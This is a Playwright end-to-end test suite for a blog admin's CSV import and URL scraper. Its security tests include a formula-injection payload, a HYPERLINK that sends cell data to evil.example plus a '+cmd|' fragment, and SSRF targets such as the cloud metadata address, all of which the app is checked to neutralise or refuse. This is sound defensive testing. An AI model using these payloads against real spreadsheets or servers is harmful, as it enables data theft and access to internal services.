import { readFile } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Download, type Locator, type Page } from "@playwright/test";
import { signIn } from "../support/admin.ts";
import { SCRAPE_FIXTURE_HOST } from "../support/e2e-ports.ts";

/**
 * Issue 6: the import screen. Download the template; upload a CSV with a quoted comma and an
 * embedded newline, a warning row, an error row and a row switched to Skip; import it, see the
 * results, the toast and the public post; import it again and nothing new is created. Then scrape
 * two local fixture pages plus refused private addresses, and import the downloaded CSV.
 */

const IMPORT_PATH = "/admin/lake-advisor/import";
const HEADER = "title,slug,excerpt,hero_image_url,categories,tags,author_name,published_at,seo_title,seo_description,canonical_url,featured,content_html";

async function downloadText(download: Download): Promise<string> {
  const path = await download.path();
  return readFile(path, "utf8");
}

function toast(page: Page, title: string): Locator {
  return page.locator("[data-sonner-toast]").filter({ hasText: title });
}

/** The number under a label of the Import Results card. */
function resultCount(results: Locator, label: string): Locator {
  return results
    .getByRole("term")
    .filter({ hasText: new RegExp(`^${label}$`) })
    .locator("xpath=following-sibling::dd[1]");
}

function rowAction(page: Page, rowNumber: number): Locator {
  return page.getByRole("button", { name: new RegExp(`^Row ${rowNumber} action: `) });
}

async function upload(page: Page, name: string, text: string) {
  await page.getByLabel("CSV file").setInputFiles({ name, mimeType: "text/csv", buffer: Buffer.from(text, "utf8") });
}

test("Download Template gives blog-import-template.csv: the 13 columns and one sample row", async ({ page }) => {
  await signIn(page, IMPORT_PATH);
  await expect(page.getByRole("heading", { level: 1, name: "Import Blog Posts" })).toBeVisible();
  await expect(page.getByRole("link", { name: "Back to Admin" })).toHaveAttribute("href", "/admin/lake-advisor");

  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download Template" }).click()]);
  expect(download.suggestedFilename()).toBe("blog-import-template.csv");
  const lines = (await downloadText(download)).split("\r\n").filter(Boolean);
  expect(lines[0]).toBe(HEADER);
  expect(lines).toHaveLength(2);
  expect(lines[1]).toContain("Living on Lake Norman: A Buyer's Guide to Waterfront Homes,living-on-lake-norman-waterfront-buyers-guide,");
  expect(lines[1]).toContain('"Neighborhood Guides, Real Estate Tips"');
});

test("import a CSV: preview, row dialog, Skip, Import, results, toast, the public post; a second run creates nothing", async ({ page }) => {
  const run = Date.now().toString(36);
  const slug = `docks-decks-${run}`;
  const file = [
    HEADER,
    `"Docks, Decks and Lake Views ${run}",${slug},"Permits, decks and views.",,"Market Insights, Real Estate Tips","docks, permits",,2025-03-14,,,,false,"<h2>Before you build</h2><p>Permits come first,`,
    `then the dock.</p>"`,
    "",
    `Sunset Cruises ${run},sunset-cruises-${run},Evening boating.,,Boating & Water Sports,,,not a date,,,,,<p>Golden hour on the water.</p>`,
    `,untitled-${run},,,,,,,,,,,<p>No title here.</p>`,
    `Skip Me ${run},skip-me-${run},,,,,,2025-02-01,,,,,<p>Not today.</p>`,
    "",
  ].join("\n");

  await signIn(page, IMPORT_PATH);
  await upload(page, "lake-posts.csv", file);

  const table = page.getByRole("table");
  await expect(table.getByRole("row")).toHaveCount(5);
  const row = (n: number) => table.getByRole("row").nth(n);
  await expect(row(1)).toContainText(`Docks, Decks and Lake Views ${run}`);
  await expect(row(1)).toContainText(slug);
  await expect(row(1)).toContainText("Valid");
  await expect(row(2)).toContainText("Warnings");
  await expect(row(3)).toContainText("No title");
  await expect(row(3)).toContainText("Errors");
  await expect(row(4)).toContainText("Valid");
  await expect(page.getByText("lake-posts.csv")).toBeVisible();
  await expect(rowAction(page, 1)).toHaveText(/Create New$/);
  await expect(rowAction(page, 3)).toHaveText(/Skip$/);

  // The warning row's dialog: its warning and the choice, Create New by default.
  await rowAction(page, 2).click();
  let dialog = page.getByRole("dialog", { name: "Row 2" });
  await expect(dialog.getByRole("list", { name: "Warnings" })).toHaveText("Invalid date format, will use current date");
  await expect(dialog.getByRole("radio", { name: "Create New" })).toBeChecked();
  await expect(dialog.getByRole("radio", { name: "Update Existing" })).toBeVisible();
  await expect(dialog.getByRole("radio", { name: "Skip" })).toBeVisible();
  await dialog.getByRole("button", { name: "Done" }).click();
  await expect(dialog).toBeHidden();

  // The error row's dialog: its error; it is skipped whatever is chosen.
  await rowAction(page, 3).click();
  dialog = page.getByRole("dialog", { name: "Row 3" });
  await expect(dialog.getByRole("list", { name: "Errors" })).toHaveText("Title is required");
  await expect(dialog.getByRole("radio", { name: "Skip" })).toBeChecked();
  await expect(dialog.getByRole("radio", { name: "Create New" })).toBeDisabled();
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();

  // Row 4 is switched to Skip.
  await rowAction(page, 4).click();
  dialog = page.getByRole("dialog", { name: "Row 4" });
  await dialog.getByRole("radio", { name: "Skip" }).check();
  await dialog.getByRole("button", { name: "Done" }).click();
  await expect(rowAction(page, 4)).toHaveText(/Skip$/);
  await expect(rowAction(page, 4)).toBeFocused();
  await expect(page.getByText("2 new posts, 0 updates, 2 rows skipped.")).toBeVisible();

  // Import: the button reads "Importing..." while the server works (the request is held briefly).
  let release: () => void = () => {};
  const held = new Promise<void>((resolve) => (release = resolve));
  let heldRequests = 0;
  await page.route("**/admin/lake-advisor/import.data*", async (route) => {
    heldRequests++;
    await held;
    await route.continue();
  });
  await page.getByRole("button", { name: "Import Posts" }).click();
  await expect(page.getByRole("button", { name: "Importing..." })).toBeDisabled();
  await expect.poll(() => heldRequests).toBe(1);
  release();

  await expect(toast(page, "Import Complete")).toContainText("Created: 2, Updated: 0, Skipped: 2");
  const results = page.getByRole("region", { name: "Import Results" });
  await expect(resultCount(results, "Created")).toHaveText("2");
  await expect(resultCount(results, "Updated")).toHaveText("0");
  await expect(resultCount(results, "Skipped")).toHaveText("2");
  await expect(results.getByRole("term").filter({ hasText: "Failed" })).toHaveCount(0);
  const imported = results.getByRole("listitem").filter({ hasText: `Docks, Decks and Lake Views ${run}` });
  await expect(imported).toContainText("Created");
  await expect(imported.getByRole("link", { name: /^Edit/ })).toHaveAttribute("href", /^\/admin\/lake-advisor\/[0-9a-f-]{36}\/edit$/);
  const viewLink = imported.getByRole("link", { name: /^View post/ });
  await expect(viewLink).toHaveAttribute("href", `/the-lake-advisor/${slug}`);
  await expect(results.getByRole("listitem").filter({ hasText: "Row 3" })).toContainText("Title is required");

  // The preview now knows the posts exist: a second run updates them (the default) and creates nothing.
  await expect(rowAction(page, 1)).toHaveText(/Update Existing$/);
  await expect(rowAction(page, 2)).toHaveText(/Update Existing$/);
  await expect(rowAction(page, 4)).toHaveText(/Skip$/);
  await page.unroute("**/admin/lake-advisor/import.data*");
  await page.getByRole("button", { name: "Import Posts" }).click();
  await expect(toast(page, "Import Complete").filter({ hasText: "Created: 0, Updated: 2, Skipped: 2" })).toBeVisible();
  await expect(resultCount(results, "Created")).toHaveText("0");
  await expect(resultCount(results, "Updated")).toHaveText("2");
  expect((await page.request.get(`/the-lake-advisor/${slug}-2`)).status()).toBe(404);

  // The imported post is public, its HTML content rendered, its categories shown.
  const postPage = await page.context().newPage();
  await postPage.goto(`/the-lake-advisor/${slug}`);
  await expect(postPage.getByRole("heading", { level: 1, name: `Docks, Decks and Lake Views ${run}` })).toBeVisible();
  await expect(postPage.getByRole("heading", { level: 2, name: "Before you build" })).toBeVisible();
  await expect(postPage.getByText(/Permits come first,\s+then the dock\./)).toBeVisible();
  await expect(postPage.getByText("Market Insights").first()).toBeVisible();
  await expect(postPage.getByRole("main").getByText("Meredith Vance").first()).toBeVisible();
});

test.describe("on a phone", () => {
  test.use({ viewport: { width: 390, height: 844 } });

  test("every column of a preview row is on screen: Row, Title, Slug, the Status badge and the Action button", async ({ page }) => {
    const run = Date.now().toString(36);
    const title = `Waterfront Living on Lake Norman: Docks, Permits and the Best Coves ${run}`;
    const slug = `waterfront-living-on-lake-norman-docks-permits-and-the-best-coves-${run}`;
    await signIn(page, IMPORT_PATH);
    await upload(page, "phone.csv", [HEADER, `"${title}",${slug},Short.,,,,,2025-03-14,,,,,<p>On the water.</p>`, ""].join("\n"));

    const row = page.getByRole("table").getByRole("row").nth(1);
    await expect(row).toContainText(title);
    const parts = {
      status: row.getByText("Valid", { exact: true }),
      action: rowAction(page, 1),
      row: row.getByRole("cell").filter({ hasText: /^\s*(Row\s*)?1\s*$/ }),
      title: row.getByText(title),
      slug: row.getByText(slug),
    };
    for (const [name, part] of Object.entries(parts)) {
      await expect(part, name).toBeVisible();
      const box = (await part.boundingBox())!;
      expect(box.x, `${name} starts on screen`).toBeGreaterThanOrEqual(0);
      expect(box.x + box.width, `${name} ends on screen`).toBeLessThanOrEqual(390);
    }
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  });
});

test("a file the import cannot read is refused with the reason", async ({ page }) => {
  await signIn(page, IMPORT_PATH);
  await upload(page, "broken.csv", 'title,slug\n"Unclosed,broken\n');
  await expect(page.getByRole("alert")).toHaveText("Line 2: a quoted cell is never closed.");
  await expect(page.getByRole("table")).toHaveCount(0);

  await upload(page, "notes.txt", "title,slug\nA,a\n");
  await expect(page.getByRole("alert")).toHaveText("Only .csv files can be imported");
});

test("the import corpus: a Latin-1 or UTF-16 file is named, rows the editor would refuse and a repeated slug fail in the preview, extra cells warn", async ({
  page,
}) => {
  const run = Date.now().toString(36);
  await signIn(page, IMPORT_PATH);
  const latin1 = Buffer.from(`${HEADER}\nCaf\u00e9 ${run},cafe-${run},,,,,,,,,,,<p>Body</p>\n`, "latin1");
  await page.getByLabel("CSV file").setInputFiles({ name: "latin1.csv", mimeType: "text/csv", buffer: latin1 });
  await expect(page.getByRole("alert")).toContainText("The file is not UTF-8 text (line 2 has a character in another encoding");
  await expect(page.getByRole("table")).toHaveCount(0);
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\nA,a-${run}\n`, "utf16le")]);
  await page.getByLabel("CSV file").setInputFiles({ name: "utf16.csv", mimeType: "text/csv", buffer: utf16 });
  await expect(page.getByRole("alert")).toContainText("The file is saved as UTF-16 text, not UTF-8.");

  const file = [
    HEADER,
    `${"Long ".repeat(61)},long-${run},,,,,,,,,,,<p>Body</p>`,
    `Bell\u0007 ${run},bell-${run},,,,,,,,,,,<p>Body</p>`,
    `Twin ${run},twin-${run},,,,,,,,,,,<p>First</p>,extra`,
    `Twin Again ${run},twin-${run},,,,,,,,,,,<p>Second</p>`,
    "",
  ].join("\n");
  await upload(page, "corpus.csv", file);
  const table = page.getByRole("table");
  await expect(table.getByRole("row")).toHaveCount(5);
  const row = (n: number) => table.getByRole("row").nth(n);
  await expect(row(1)).toContainText("Errors");
  await expect(row(2)).toContainText("Errors");
  await expect(row(3)).toContainText("Warnings");
  await expect(row(4)).toContainText("Errors");

  const errorsOf = async (rowNumber: number) => {
    await rowAction(page, rowNumber).click();
    const dialog = page.getByRole("dialog", { name: `Row ${rowNumber}` });
    const list = dialog.getByRole("list", { name: rowNumber === 3 ? "Warnings" : "Errors" });
    const text = await list.textContent();
    await page.keyboard.press("Escape");
    await expect(dialog).toBeHidden();
    return text;
  };
  expect(await errorsOf(1)).toBe("Title must be at most 300 characters");
  expect(await errorsOf(2)).toBe("Title: Remove the invisible control characters");
  expect(await errorsOf(3)).toBe("1 cell beyond the header's columns will be ignored");
  expect(await errorsOf(4)).toBe(`Row 3 of this file has the same slug "twin-${run}"; only that row can be imported`);

  await page.getByRole("button", { name: "Import Posts" }).click();
  await expect(toast(page, "Import Complete")).toContainText("Created: 1, Updated: 0, Skipped: 3");
  // A second run updates nothing with the other row's content.
  await page.getByRole("button", { name: "Import Posts" }).click();
  await expect(toast(page, "Import Complete").filter({ hasText: "Created: 0, Updated: 1, Skipped: 3" })).toBeVisible();
  const postPage = await page.context().newPage();
  await postPage.goto(`/the-lake-advisor/twin-${run}`);
  await expect(postPage.getByRole("heading", { level: 1, name: `Twin ${run}` })).toBeVisible();
  await expect(postPage.getByText("First", { exact: true })).toBeVisible();
});

test("a hostile scraped page: scraped-posts.csv neutralises its formulas and drops its control characters, and imports the original text", async ({ page }) => {
  const { server, port } = await startFixtureServer();
  try {
    await signIn(page, IMPORT_PATH);
    const scraper = page.getByRole("region", { name: "URL Scraper (Optional)" });
    await scraper.getByLabel("Post URLs").fill(`http://${SCRAPE_FIXTURE_HOST}:${port}/blog/hostile-article`);
    const downloading = page.waitForEvent("download");
    await scraper.getByRole("button", { name: "Scrape & Download CSV" }).click();
    const download = await downloading;
    const csv = await downloadText(download);
    const [, line] = csv.split("\r\n");
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",hostile-article,"'+cmd|`)).toBe(true);
    expect(line).toContain(`,"'@Jordan Ellis",`);
    expect(line).toContain(`,"'-Boating",`);
    // eslint-disable-next-line no-control-regex -- the test looks for control characters
    expect(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(csv)).toBe(false);

    await upload(page, download.suggestedFilename(), csv);
    await expect(page.getByRole("table").getByText("Valid")).toHaveCount(1);
    await page.getByRole("button", { name: "Import Posts" }).click();
    await expect(toast(page, "Import Complete")).toContainText(/Created: 1|Updated: 1/);

    const postPage = await page.context().newPage();
    await postPage.goto("/the-lake-advisor/hostile-article");
    await expect(postPage.getByRole("heading", { level: 1, name: title })).toBeVisible();
    await expect(postPage.getByText("@Jordan Ellis").first()).toBeVisible();
    const feed = await page.request.get("/the-lake-advisor/rss.xml");
    const parsed = await postPage.evaluate(
      (xml) => {
        const doc = new DOMParser().parseFromString(xml, "application/xml");
        return { error: doc.getElementsByTagName("parsererror").length, titles: [...doc.getElementsByTagName("title")].map((t) => t.textContent) };
      },
      await feed.text(),
    );
    expect(parsed.error).toBe(0);
    expect(parsed.titles).toContain(title);
  } finally {
    server.close();
  }
});

test("a request larger than the import's limit is refused before it is read", async ({ page, baseURL }) => {
  await signIn(page, IMPORT_PATH);
  const tooLarge = Buffer.alloc(10 * 1024 * 1024 + 300 * 1024, "a");
  const response = await page.request.post(`${IMPORT_PATH}.data`, {
    headers: { Origin: baseURL! },
    multipart: { intent: "preview", file: { name: "huge.csv", mimeType: "text/csv", buffer: tooLarge } },
  });
  expect(response.status()).toBe(413);
  expect(await response.json()).toEqual({ error: "The file is larger than 10 MB" });
});

const FIXTURES: Record<string, string> = {
  "/blog/best-boat-ramps-lake-norman/": "wordpress-article.html",
  "/posts/davidson-market-report-spring-2025": "jsonld-article.html",
  "/blog/hostile-article": "hostile-article.html",
};

/** Serves the scraper's fixture pages on a free port (all interfaces, so "localhost" reaches it on IPv4 or IPv6). */
async function startFixtureServer(): Promise<{ server: http.Server; port: number }> {
  const server = http.createServer((req, res) => {
    const path = new URL(req.url ?? "/", "http://fixture").pathname;
    if (path === "/moved") {
      res.writeHead(302, { location: "http://169.254.169.254/latest/meta-data/" }).end();
      return;
    }
    const name = FIXTURES[path];
    if (!name) {
      res.writeHead(404, { "content-type": "text/plain" }).end("Not found");
      return;
    }
    readFile(new URL(`../fixtures/scrape/${name}`, import.meta.url), "utf8").then(
      (html) => res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(html),
      () => res.writeHead(500).end(),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, resolve));
  return { server, port: (server.address() as AddressInfo).port };
}

test("scrape two pages while private addresses and a redirect to one are refused, download scraped-posts.csv, import it unchanged", async ({ page }) => {
  const { server, port } = await startFixtureServer();
  try {
    const base = `http://${SCRAPE_FIXTURE_HOST}:${port}`;
    const urls = [
      `${base}/blog/best-boat-ramps-lake-norman/`,
      `${base}/posts/davidson-market-report-spring-2025`,
      "http://169.254.169.254/latest/meta-data/",
      `http://127.0.0.1:${port}/blog/best-boat-ramps-lake-norman/`,
      `${base}/moved`,
    ];
    await signIn(page, IMPORT_PATH);
    const scraper = page.getByRole("region", { name: "URL Scraper (Optional)" });
    const box = scraper.getByLabel("Post URLs");
    await expect(box).toHaveAttribute("rows", "10");
    await box.fill(urls.join("\n"));

    let release: () => void = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    let heldRequests = 0;
    await page.route("**/admin/scrape", async (route) => {
      heldRequests++;
      await held;
      await route.continue();
    });
    const downloading = page.waitForEvent("download");
    await scraper.getByRole("button", { name: "Scrape & Download CSV" }).click();
    await expect(scraper.getByRole("button", { name: "Scraping..." })).toBeDisabled();
    await expect.poll(() => heldRequests).toBe(1);
    release();

    const download = await downloading;
    expect(download.suggestedFilename()).toBe("scraped-posts.csv");
    const csv = await downloadText(download);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe(HEADER);
    expect(csv).toContain("The Best Public Boat Ramps on Lake Norman,best-boat-ramps-lake-norman,");
    expect(csv).toContain("davidson-market-report-spring-2025");
    expect(csv).not.toContain("169.254.169.254");

    await expect(toast(page, "Scraping complete")).toContainText("CSV downloaded");
    const failures = scraper.getByRole("list", { name: "URLs not scraped" });
    await expect(failures.getByRole("listitem")).toHaveCount(3);
    await expect(failures.getByRole("listitem").filter({ hasText: "http://169.254.169.254/latest/meta-data/" })).toContainText(
      "Refused: 169.254.169.254 is not a public address",
    );
    await expect(failures.getByRole("listitem").filter({ hasText: `http://127.0.0.1:${port}/` })).toContainText("Refused: 127.0.0.1 is not a public address");
    // A public-looking page that redirects to a private address is refused at the redirect.
    await expect(failures.getByRole("listitem").filter({ hasText: `${base}/moved` })).toContainText("Refused: 169.254.169.254 is not a public address");
    await page.unroute("**/admin/scrape");

    // The downloaded file goes into the import unchanged: every row valid, both created.
    await upload(page, download.suggestedFilename(), csv);
    const table = page.getByRole("table");
    await expect(table.getByRole("row")).toHaveCount(3);
    await expect(table.getByText("Valid")).toHaveCount(2);
    await page.getByRole("button", { name: "Import Posts" }).click();
    await expect(toast(page, "Import Complete")).toContainText("Created: 2, Updated: 0, Skipped: 0");

    const postPage = await page.context().newPage();
    await postPage.goto("/the-lake-advisor/best-boat-ramps-lake-norman");
    await expect(postPage.getByRole("heading", { level: 1, name: "The Best Public Boat Ramps on Lake Norman" })).toBeVisible();
    await expect(postPage.getByRole("heading", { level: 2, name: "Blythe Landing" })).toBeVisible();
  } finally {
    server.close();
  }
});

test("when every URL is refused the toast says Scraping failed with the reason, and nothing is downloaded", async ({ page }) => {
  await signIn(page, IMPORT_PATH);
  let downloads = 0;
  page.on("download", () => downloads++);
  const scraper = page.getByRole("region", { name: "URL Scraper (Optional)" });
  await scraper.getByLabel("Post URLs").fill("http://169.254.169.254/");
  await scraper.getByRole("button", { name: "Scrape & Download CSV" }).click();
  await expect(toast(page, "Scraping failed")).toContainText("Refused: 169.254.169.254 is not a public address");
  await expect(scraper.getByRole("list", { name: "URLs not scraped" })).toContainText("http://169.254.169.254/");
  expect(downloads).toBe(0);
});
